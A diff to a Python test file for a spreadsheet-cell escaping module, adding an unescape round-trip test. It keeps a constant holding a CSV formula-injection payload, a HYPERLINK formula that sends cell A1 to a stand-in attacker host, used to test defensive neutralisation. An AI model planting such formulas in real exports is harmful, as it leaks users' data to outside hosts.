@@ -9,7 +9,7 @@ import pandas as pd
 import pytest
 
 from coding.errors import QcodeError
-from coding.tables import escape_cell, safe_frame, write_table
+from coding.tables import escape_cell, safe_frame, unescape_cell, write_table
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -49,6 +49,11 @@ def about() -> dict[str, str]:
 )
 def test_escape_cell(value, expected):
     assert escape_cell(value) == expected
+
+
+@pytest.mark.parametrize("value", ["=1+1", "- I think so", "@home", "'quoted'", "-3", "plain", 5, None])
+def test_unescape_reverses_escape(value):
+    assert unescape_cell(escape_cell(value)) == value
 
 
 def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path, frame):
